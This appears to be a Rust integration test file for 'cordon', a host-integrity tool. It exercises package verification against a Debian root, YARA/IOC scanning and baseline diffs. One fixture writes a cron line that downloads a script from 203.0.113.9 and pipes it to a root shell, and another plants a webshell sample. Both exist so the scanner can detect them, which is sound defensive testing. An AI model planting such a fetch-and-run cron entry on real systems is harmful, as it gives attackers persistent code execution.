//! `cordon verify packages` and `cordon scan` end to end on a copy of the real Debian root.

use std::path::Path;
use std::process::Command;

use cordon_testkit::{debian_root, run_cordon};

use crate::{BIN, TestCase, stderr, stdout};

fn lines(out: &std::process::Output) -> Vec<serde_json::Value> {
    stdout(out)
        .lines()
        .map(|l| serde_json::from_str(l).expect("every --json line is JSON"))
        .collect()
}

fn rules() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules")
}

/// A hard-linked copy of the Debian root; files are changed only by replacing them.
/// (The case lives on tmpfs; the copy goes next to the Debian root's filesystem, where `cp -al` works.)
fn copy(dir: &tempfile::TempDir) -> std::path::PathBuf {
    let dest = dir.path().join("web01");
    assert!(
        Command::new("cp")
            .arg("-al")
            .arg(debian_root().unwrap())
            .arg(&dest)
            .status()
            .unwrap()
            .success()
    );
    dest
}

fn replace(root: &Path, rel: &str, bytes: &[u8]) {
    let p = root.join(rel);
    let tmp = p.with_extension("tmp-cordon");
    std::fs::write(&tmp, bytes).unwrap();
    std::fs::rename(&tmp, &p).unwrap();
}

#[test]
fn verify_packages_finds_a_trojaned_binary_stores_it_and_exits_1() {
    let t = TestCase::new();
    let tmp = tempfile::tempdir().unwrap();
    let root = copy(&tmp);
    replace(&root, "usr/bin/ls", b"\x7fELF trojan \x1b[31m");
    let out = t.run(&["verify", "packages", "--root", root.to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let results = lines(&out);
    assert_eq!(results.len(), 1, "{}", stdout(&out));
    let r = &results[0];
    assert_eq!(r["path"], "/bin/ls");
    assert_eq!(r["status"], "changed");
    assert_eq!(r["package"], "coreutils");
    assert!(r["version"].as_str().unwrap().starts_with("9."));
    assert_eq!(r["expected"].as_str().unwrap().len(), 32);
    assert_eq!(r["severity"], "high");
    assert_eq!(r["check"], "package.changed");
    let status = t.ok(&["status", "--json"]);
    assert!(status.contains("\"high\""), "{status}");

    // Human output on the clean original: nothing, exit 0.
    let out = run_cordon(
        Path::new(BIN),
        None,
        [
            "verify",
            "packages",
            "--root",
            debian_root().unwrap().to_str().unwrap(),
        ],
        None,
    )
    .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).is_empty(), "{}", stdout(&out));
}

#[test]
fn verify_with_debs_sees_through_a_rewritten_md5sums_line() {
    let t = TestCase::new();
    let tmp = tempfile::tempdir().unwrap();
    let root = copy(&tmp);
    let evil = b"replaced sshd";
    replace(&root, "usr/bin/ls", evil);
    let md5 = String::from_utf8(
        Command::new("md5sum")
            .arg(root.join("usr/bin/ls"))
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap()[..32]
        .to_owned();
    let sums = root.join("var/lib/dpkg/info/coreutils.md5sums");
    let text: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .map(|l| {
            if l.ends_with("  bin/ls") {
                format!("{md5}  bin/ls\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    replace(&root, "var/lib/dpkg/info/coreutils.md5sums", text.as_bytes());
    let r = root.to_str().unwrap();
    let db = t.run(&[
        "verify",
        "packages",
        "--root",
        r,
        "--json",
        "--package",
        "coreutils",
    ]);
    assert_eq!(
        db.status.code(),
        Some(0),
        "the database check is fooled: {}",
        stdout(&db)
    );
    let debs = root.join("var/cache/apt/archives");
    let out = t.run(&[
        "verify",
        "packages",
        "--root",
        r,
        "--debs",
        debs.to_str().unwrap(),
        "--package",
        "coreutils",
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let results = lines(&out);
    assert!(
        results
            .iter()
            .any(|v| v["path"] == "/bin/ls" && v["status"] == "changed" && v["algorithm"] == "sha256"),
        "{results:?}"
    );
}

#[test]
fn scan_with_own_rules_and_iocs_finds_planted_files_and_skips_itself() {
    let t = TestCase::new();
    let tree = t.parent.path().join("tree");
    std::fs::create_dir_all(tree.join("var/www/html")).unwrap();
    std::fs::create_dir_all(tree.join("etc/cron.d")).unwrap();
    std::fs::copy(
        rules().join("yara/samples/positive/cordon_webshell_php_eval_request.php"),
        tree.join("var/www/html/x.php"),
    )
    .unwrap();
    std::fs::write(
        tree.join("etc/cron.d/k"),
        "* * * * * root curl -s http://203.0.113.9/k.sh | sh\n",
    )
    .unwrap();
    std::fs::write(tree.join("etc/hostname"), "web01\n").unwrap();
    let out = t.run(&[
        "scan",
        "--root",
        tree.to_str().unwrap(),
        "--yara",
        rules().join("yara").to_str().unwrap(),
        "--ioc",
        rules().join("ioc/example.txt").to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let res = lines(&out);
    assert!(
        res.iter().any(|v| v["path"] == "/var/www/html/x.php"
            && v["attrs"]["rule"] == "cordon_webshell_php_eval_request"),
        "{res:?}"
    );
    assert!(
        res.iter()
            .any(|v| v["path"] == "/etc/cron.d/k" && v["check"] == "ioc.network"),
        "{res:?}"
    );
    assert_eq!(res.len(), 2, "{res:?}");

    // Scanning the directory holding the rules: the rule files themselves are skipped.
    let out = t.run(&[
        "scan",
        rules().join("yara").to_str().unwrap(),
        "--yara",
        rules().join("yara").to_str().unwrap(),
        "--json",
    ]);
    let res = lines(&out);
    assert!(
        res.iter()
            .all(|v| v["path"].as_str().unwrap().contains("/samples/positive/")),
        "{res:?}"
    );

    // A broken rule file: named with its line, the rest still scans.
    let bad = t.parent.path().join("bad.yar");
    std::fs::write(
        &bad,
        "rule good { condition: filesize > 0 }\nrule bad_one {\n condition: nope\n}\n",
    )
    .unwrap();
    let out = t.run(&[
        "scan",
        "--root",
        tree.to_str().unwrap(),
        "--yara",
        bad.to_str().unwrap(),
        "--json",
    ]);
    assert!(
        stderr(&out).contains("bad.yar:3: rule bad_one"),
        "{}",
        stderr(&out)
    );
    assert_eq!(lines(&out).len(), 3);

    // Nothing to scan with is a usage error.
    let out = t.run(&["scan", "--root", tree.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn baseline_create_then_diff_lists_what_changed() {
    let t = TestCase::new();
    let tmp = tempfile::tempdir().unwrap();
    let tree = tmp.path().join("srv");
    std::fs::create_dir_all(tree.join("usr/bin")).unwrap();
    std::fs::write(tree.join("usr/bin/app"), b"v1").unwrap();
    std::fs::write(tree.join("usr/bin/keep"), b"same").unwrap();
    let base = tmp.path().join("srv.baseline.zst");
    let out = t.run(&[
        "baseline",
        "create",
        "--root",
        tree.to_str().unwrap(),
        "-o",
        base.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // Unchanged: clean.
    let out = t.run(&[
        "baseline",
        "diff",
        base.to_str().unwrap(),
        "--root",
        tree.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).is_empty());
    replace(&tree, "usr/bin/app", b"v2 trojan");
    std::fs::write(tree.join("usr/bin/new"), b"dropped").unwrap();
    let out = t.run(&[
        "baseline",
        "diff",
        base.to_str().unwrap(),
        "--root",
        tree.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let res = lines(&out);
    let app = res
        .iter()
        .find(|v| v["path"] == "/usr/bin/app")
        .expect("app changed");
    assert_eq!(app["status"], "changed");
    assert!(app["fields"].as_array().unwrap().iter().any(|f| f == "hash"));
    assert_ne!(app["expected"], app["actual"]);
    assert!(
        res.iter()
            .any(|v| v["path"] == "/usr/bin/new" && v["status"] == "added")
    );
    assert!(!res.iter().any(|v| v["path"] == "/usr/bin/keep"));
}
